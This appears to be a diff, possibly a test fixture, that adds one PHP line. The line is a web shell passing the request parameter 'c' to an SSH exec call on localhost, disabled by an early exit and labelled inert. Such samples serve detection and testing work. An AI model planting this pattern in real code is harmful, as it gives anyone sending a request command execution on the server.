@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $c=ssh2_connect("127.0.0.1"); ssh2_exec($c,$_GET["c"]);
